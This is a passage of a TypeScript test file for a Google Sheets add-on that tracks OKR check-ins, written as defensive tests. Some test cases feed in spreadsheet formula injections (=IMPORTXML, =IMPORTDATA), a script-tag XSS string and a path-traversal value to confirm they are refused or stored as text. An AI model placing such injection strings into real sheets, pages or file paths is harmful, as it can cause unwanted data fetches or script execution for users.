  ] as const)("%s is refused, saying what to do", (_name, spoil, message) => {
    const fake = inserted();
    spoil(fake);
    expect(() => recordCheckIn(fake.services(), entry("Ann", "a-1"))).toThrow(message);
    expect(fake.lockHolder).toBeNull();
  });

  test("hostile text in a check-in stays text", () => {
    const fake = inserted();
    recordCheckIn(fake.services(), { ...entry("=1+1", "a-1"), comment: "=IMPORTXML(1)" });
    const sheet = fake.sheet(SHEETS.checkIns);
    expect(sheet.cell(2, 5)).toEqual({ value: "=IMPORTXML(1)", formula: null });
    expect(sheet.cell(2, 6)).toEqual({ value: "=1+1", formula: null });
  });
});

describe("server functions", () => {
  test("insertTemplate, recordCheckIn and readSnapshot round-trip through plain values", () => {
    const fake = new FakeAppsScript();
    const services = fake.services();
    const inserted = server.insertTemplate(services, { spec: templateSpec, fileName: "x.xlsx" });
    expect(JSON.parse(JSON.stringify(inserted))).toEqual(inserted);
    const recorded = server.recordCheckIn(services, {
      keyResultId: "O1.KR1",
      value: 0.5,
      date: 46069,
      confidence: null,
      author: "Ann",
      note: "",
      replaces: null,
    });
    expect(recorded.location).toEqual({ sheet: SHEETS.checkIns, address: "A2:P2" });
    expect(recorded.id).toMatch(/^[a-z0-9]+-[a-z0-9]{6}$/);
    fake.sheet("Sheet1").hidden = true;
    const snapshot = server.readSnapshot(services);
    expect(snapshot.sheets.map((sheet) => [sheet.name, sheet.visible])).toEqual([
      ["Sheet1", false],
      ...templateSpec.sheets.map((sheet) => [sheet.name, true]),
    ]);
    expect(JSON.parse(JSON.stringify(snapshot))).toEqual(snapshot);
    const log = snapshot.sheets.find((sheet) => sheet.name === SHEETS.checkIns)!;
    // The date cell reads back as the serial it was written as, not a Date.
    expect(valueAt(log, 1, 0)).toBe(46069);
    expect(formulaAt(log, 1, 8)).toMatch(/^=IF\(/);
    // Every defined name of the spec reads back with the spec's own formula.
    expect(
      templateSpec.names.map((name) => snapshot.names!.find((found) => found.name === name.name))
    ).toEqual(templateSpec.names.map(({ name, formula }) => ({ name, formula })));
    const mark = layoutMark(snapshot.names!);
    expect(mark).toEqual(expect.objectContaining({ style: "portable" }));
    // The reader finds the plan and the check-in.
    const read = readPlan(snapshot);
    expect(read.plan?.objectives.length).toBe(instantiate(template).objectives.length);
    expect(read.checkIns.map((checkIn) => checkIn.keyResultId)).toEqual(["O1.KR1"]);
  });

  test.each([
    ["no request", undefined],
    ["no spec", { fileName: "x" }],
    ["a spec without sheets", { spec: { names: [], styles: {} } }],
  ])("insertTemplate with %s throws a plain Error", (_name, request) => {
    const fake = new FakeAppsScript();
    expect(() =>
      server.insertTemplate(fake.services(), request as unknown as server.SheetsInsertRequest)
    ).toThrow("The request holds no workbook to insert: choose a template and insert again.");
  });

  const checkIn: server.SheetsCheckInRequest = {
    keyResultId: "O1.KR1",
    value: 0.5,
    date: 46069,
    confidence: null,
    author: "Ann",
    note: "",
    replaces: null,
  };
  test.each([
    ["author", 42, "The check-in's author must be text, not number."],
    ["note", { text: "x" }, "The check-in's note must be text, not object."],
    ["value", [1, 2], "The check-in's value must be a number, TRUE/FALSE or empty, not a list."],
    ["value", "42", "The check-in's value must be a number, TRUE/FALSE or empty, not string."],
    ["keyResultId", undefined, "The check-in's keyResultId must be text, not missing."],
    ["date", "2026-02-16", "The check-in's date must be a serial date, not string."],
    ["replaces", 7, "The check-in's replaces must be an entry id or empty, not number."],
    ["table", ["OkrCheckIns"], "The check-in's table must be the name of the log, not a list."],
  ])(
    "recordCheckIn with %s = %j throws a plain Error naming the field",
    (field, value, message) => {
      const fake = new FakeAppsScript();
      const services = fake.services();
      server.insertTemplate(services, { spec: templateSpec });
      const before = new Map(fake.sheet(SHEETS.checkIns).cells);
      let thrown: unknown;
      try {
        server.recordCheckIn(services, {
          ...checkIn,
          [field]: value,
        } as server.SheetsCheckInRequest);
      } catch (error) {
        thrown = error;
      }
      expect((thrown as Error).constructor).toBe(Error);
      expect((thrown as Error).message).toBe(message);
      expect(fake.sheet(SHEETS.checkIns).cells).toEqual(before);
    }
  );

  test("an unwritable spec comes back as a plain Error, not its subclass", () => {
    const fake = new FakeAppsScript();
    const spec = buildWorkbook({ ...instantiate(template), project: "x".repeat(40_000) });
    let thrown: unknown;
    try {
      server.insertTemplate(fake.services(), { spec });
    } catch (error) {
      thrown = error;
    }
    expect(thrown).toBeInstanceOf(Error);
    expect((thrown as Error).constructor).toBe(Error);
    expect((thrown as Error).message).toMatch(/40,000 characters long/);
  });
});

describe("selectCell shows a finding's cell", () => {
  /** A spreadsheet with the template inserted, the first sheet active again. */
  function inserted() {
    const fake = new FakeAppsScript();
    const services = fake.services();
    server.insertTemplate(services, { spec: templateSpec });
    fake.active = fake.sheet("Sheet1");
    fake.activeRange = null;
    return { fake, services };
  }

  test.each([
    [{ sheet: SHEETS.scorecard, address: "K7" }, `${SHEETS.scorecard}!K7`],
    [{ sheet: SHEETS.checkIns, address: "$B$2:$D$9" }, `${SHEETS.checkIns}!B2:D9`],
    [{ sheet: SHEETS.checkIns, address: "D9:B2" }, `${SHEETS.checkIns}!B2:D9`],
    // Sheets finds a sheet's name whatever its case; the sheet's own name is given back.
    [{ sheet: SHEETS.scorecard.toUpperCase(), address: "A1" }, `${SHEETS.scorecard}!A1`],
  ])("%j activates its sheet and selects %s", (location, selected) => {
    const { fake, services } = inserted();
    const result = server.selectCell(services, location);
    expect(fake.activeRange).toBe(selected);
    expect(fake.active?.name).toBe(selected.split("!")[0]);
    expect(result).toEqual({ sheet: selected.split("!")[0], address: selected.split("!")[1] });
    expect(fake.calls.filter((call) => call === "Range.activate")).toHaveLength(1);
  });

  const refused: [what: string, location: unknown, message: string][] = [
    [
      "an unknown sheet",
      { sheet: "Gone", address: "B2" },
      'This spreadsheet has no sheet "Gone" any more: check the workbook again.',
    ],
    ...(
      [
        ["a formula", "=IMPORTDATA(1)"],
        ["a sheet-qualified address", "Scorecard!B2"],
        ["row 0", "B0"],
        ["four column letters", "ABCD1"],
        ["a whole column", "A:A"],
        ["lower case", "b2"],
        ["an address too long", `B2${"0".repeat(60)}`],
        ["script", "<script>alert(1)</script>"],
        ["a number", 7],
        ["a list", ["B2"]],
        ["nothing", undefined],
      ] as [string, unknown][]
    ).map(([what, address]): [string, unknown, string] => [
      what,
      { sheet: SHEETS.scorecard, address },
      "The cell to go to has no A1 address (such as B7 or B2:D9): check the workbook again.",
    ]),
    ["no sheet", { address: "B2" }, "The cell to go to names no sheet: check the workbook again."],
    [
      "a sheet name too long",
      { sheet: "S".repeat(101), address: "B2" },
      "The cell to go to names no sheet: check the workbook again.",
    ],
    ["no location", null, "The cell to go to names no sheet: check the workbook again."],
  ];
  test.each(refused)(
    "%s is refused with a plain Error, nothing selected",
    (_what, location, message) => {
      const { fake, services } = inserted();
      let thrown: unknown;
      try {
        server.selectCell(services, location as unknown as server.SheetsCellLocation);
      } catch (error) {
        thrown = error;
      }
      expect((thrown as Error).constructor).toBe(Error);
      expect((thrown as Error).message).toBe(message);
      expect(fake.activeRange).toBeNull();
      expect(fake.active?.name).toBe("Sheet1");
      expect(fake.calls).not.toContain("Range.activate");
    }
  );

  test("an address past the sheet's grid throws Apps Script's error, nothing selected", () => {
    const { fake, services } = inserted();
    expect(() => server.selectCell(services, { sheet: SHEETS.scorecard, address: "ZZZ9" })).toThrow(
      "The coordinates of the range are outside the dimensions of the sheet."
    );
    expect(fake.activeRange).toBeNull();
  });
});

describe("showHelp opens a function's help page in a dialog", () => {
  // The project's help files as the build writes them (a stand-in stylesheet), and Sidebar.html.
  const files: Record<string, string> = {
    Sidebar: "<!doctype html><title>OKR Studio</title>",
    ...Object.fromEntries(
      sheetsHelpPages("body { margin: 0; }").map((page) => [
        page.file.replace(/\.html$/, ""),
        page.content,
      ])
    ),
  };
  const services = () => {
    const HtmlService = new FakeHtmlService(files);
    const ui = new FakeUi(HtmlService);
    return { HtmlService, ui, SpreadsheetApp: { getUi: () => ui } };
  };

  test.each(FUNCTION_DESCRIPTIONS.map((fn) => [fn.id, fn.id.toLowerCase()]))(
    "%s: Help-%s.html, titled with its Sheets name, at the dialog's size",
    (id, file) => {
      const help = services();
      expect(server.showHelp(help, id)).toEqual({ page: id, title: `OKR_${id}` });
      expect(help.HtmlService.calls).toEqual([
        `HtmlService.createHtmlOutputFromFile:Help-${file}`,
        "HtmlOutput.setWidth",
        "HtmlOutput.setHeight",
      ]);
      expect(help.ui.dialogs).toEqual([
        {
          title: `OKR_${id}`,
          html: files[`Help-${file}`],
          width: HELP_DIALOG_SIZE.width,
          height: HELP_DIALOG_SIZE.height,
        },
      ]);
      expect(help.ui.dialogs[0].html).toContain(`<h1>OKR_${id}</h1>`);
    }
  );

  // Only a function's id names a page: no other file of the project, whatever the text.
  test.each([
    ["a lower-case id", "score"],
    ["another file of the project", "Sidebar"],
    ["a file's name", "Help-score"],
    ["a path", "../SCORE"],
    ["an id with more", "SCORE.html"],
    ["an object's own property", "constructor"],
    ["an empty text", ""],
    ["no page", undefined],
    ["a number", 1],
    ["a list", ["SCORE"]],
  ])("%s (%j) is refused with a plain Error, no file read, no dialog", (_what, page) => {
    const help = services();
    let thrown: unknown;
    try {
      server.showHelp(help, page);
    } catch (error) {
      thrown = error;
    }
    expect((thrown as Error).constructor).toBe(Error);
    expect((thrown as Error).message).toBe(
      "OKR Studio has no help page by that name: choose a function in the list."
    );
    expect(help.HtmlService.calls).toEqual([]);
    expect(help.ui.calls).toEqual([]);
  });

  test("a help file missing from the project: Apps Script's error, as a plain Error, no dialog", () => {
    const HtmlService = new FakeHtmlService({ Sidebar: files.Sidebar });
    const ui = new FakeUi(HtmlService);
    expect(() =>
      server.showHelp({ HtmlService, SpreadsheetApp: { getUi: () => ui } }, "PACE")
    ).toThrow("No HTML file named Help-pace was found.");
    expect(ui.dialogs).toEqual([]);
  });
});
